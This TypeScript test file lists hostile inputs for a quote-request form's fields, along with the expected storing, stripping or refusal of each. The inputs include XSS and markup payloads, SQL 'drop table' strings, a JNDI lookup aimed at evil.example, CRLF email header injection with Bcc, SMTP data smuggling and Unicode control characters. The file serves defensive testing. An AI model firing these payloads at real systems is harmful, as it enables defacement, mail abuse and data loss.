import { quote } from "./builders";
import {
  accepted,
  acceptedAs,
  cases,
  type HostileCase,
  invalid,
  keptAside,
} from "./HostileRequest";

/** Or the text that is stored instead of the typed one. */
type Verdict = "kept as typed" | "kept aside" | "refused" | { stored: string };

/** What is put into each one-line field, and what becomes of it. Accepted text is stored as typed and escaped when shown. */
const payloads: [name: string, text: string, verdict: Verdict][] = [
  ["bold", "<b>Jane</b>", "kept as typed"],
  ["an element that closes ours", "</td></tr></table><h1>Pay now</h1>", "kept as typed"],
  ["an attribute that ends ours", 'x" onmouseover="alert(1)', "kept as typed"],
  ["a style sheet", "<style>body{display:none}</style>", "kept as typed"],
  ["entities", "&lt;b&gt; &amp; &#60;", "kept as typed"],
  ["a script", "<script>alert(1)</script>", "kept as typed"],
  ["a link", '<a href="https://evil.example">click</a>', "kept aside"],
  ["SQL", "x'); drop table quote_requests; --", "kept as typed"],
  ["a filter of PostgREST", "eq.1,or=(id.gt.0)", "kept as typed"],
  ["a formula", '=HYPERLINK("x","y")', "kept as typed"],
  ["an LDAP look-up", "${jndi:ldap://evil.example/x}", "kept as typed"],
  ["an encoded word", "=?utf-8?B?QmNjOiB4QGV4YW1wbGUuY29t?=", "kept as typed"],
  ["an encoded line break", "Jane%0d%0aBcc: victim@example.com", "kept as typed"],
  ["more addresses", "Jane <victim@example.com>, other@example.com", "kept as typed"],
  ["quotes and a backslash", '"Jane\\" <x@example.com>', "kept as typed"],
  [
    "a line break and Bcc",
    "Jane\r\nBcc: victim@example.com",
    { stored: "Jane Bcc: victim@example.com" },
  ],
  ["a carriage return", "Jane\rX-Evil: 1", { stored: "Jane X-Evil: 1" }],
  [
    "a line separator",
    "Jane\u2028Bcc: victim@example.com",
    { stored: "Jane Bcc: victim@example.com" },
  ],
  ["NUL", "Jane\0Doe", { stored: "JaneDoe" }],
  ["terminal codes", "\u001b[31mJane\u001b[2J", { stored: "[31mJane[2J" }],
  ["text turned around", "Jane\u202Egpj.exe", { stored: "Janegpj.exe" }],
  ["a tag letter", "Jane\u{E0041}Doe", { stored: "JaneDoe" }],
  ["half a letter", "Jane\ud800Doe", "refused"],
];

const columns = { firstName: "first_name", lastName: "last_name", address: "address" } as const;

// The three fields have the same rule, so they take turns.
const lines = payloads.flatMap(([name, text, verdict], index): HostileCase[] => {
  const field = (["firstName", "lastName", "address"] as const)[index % 3] ?? "address";
  const stored = { [columns[field]]: typeof verdict === "object" ? verdict.stored : text };
  const expect =
    verdict === "refused"
      ? invalid(field)
      : { ...(verdict === "kept aside" ? keptAside : accepted), stored };
  return cases(expect, { [`${field}: ${name}`]: quote({ [field]: text }) });
});

/** Details may have several lines, so a line break is no attack: each kind is stored as a line feed. */
const paragraphs = Object.entries({
  "header lines": "Hi\r\nBcc: victim@example.com\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
  "the end of SMTP data":
    "one\r\n.\r\nMAIL FROM:<x@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA",
  "a lonely dot at each line break there is": "a\n.\nb\r.\rc\r\n.\r\nd",
  "a boundary": "----_NmP-0000\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
  elements: "</td></table><h1>x</h1><style>*{}</style><input autofocus onfocus=x>",
  "a line of 5,000 letters": "x".repeat(5000),
  "JSON that looks like a log line": '{"event":"request.received"}\n{"event":"forged"}',
  "From at the start of a line": "From me\nFrom you",
}).flatMap(([name, typed]) =>
  cases(acceptedAs({ details: typed.replaceAll(/\r\n?/g, "\n") }), {
    [`details: ${name}`]: quote({ details: typed }),
  }),
);

const aside: HostileCase[] = [
  ...cases(acceptedAs({ details: "a\nb\nc[31mred" }), {
    "details: line separators and terminal codes": quote({
      details: "a\u2028b\u2029c\u001b[31mred\u0007",
    }),
  }),
  ...cases(keptAside, {
    "details: links and markup": quote({
      details: "https://a.example www.d.example <a href=https://b.example>x</a>",
    }),
  }),
  ...cases(invalid("details"), {
    "details: NUL": quote({ details: "a\0b" }),
  }),
];

/** Where one looks for a way into the mail's headers. Beside shared/isEmailAddress.ts is every wrong address. */
const emails = [
  "jane@example.com\r\nBcc: victim@example.com",
  "jane@example.com%0aBcc:victim@example.com",
  "jane@example.com, victim@example.com",
  "Jane <jane@example.com>",
  "jane@example.com?bcc=victim@example.com",
  '"ja\r\nne"@example.com',
].flatMap((email) =>
  cases(invalid("email"), { [`email refused: ${JSON.stringify(email)}`]: quote({ email }) }),
);

/** Words around a number are no mistake; they are stored in one line and escaped when shown. */
const phones = [
  "404-555-0134\r\nBcc: victim@example.com",
  "404-555-0134<b>",
  "4045550134'; drop table rows; --",
].flatMap((phone) =>
  cases(acceptedAs({ phone: phone.replace("\r\n", " ") }), {
    [`phone: ${JSON.stringify(phone)}`]: quote({ phone }),
  }),
);

export const injections = [...lines, ...paragraphs, ...aside, ...emails, ...phones];
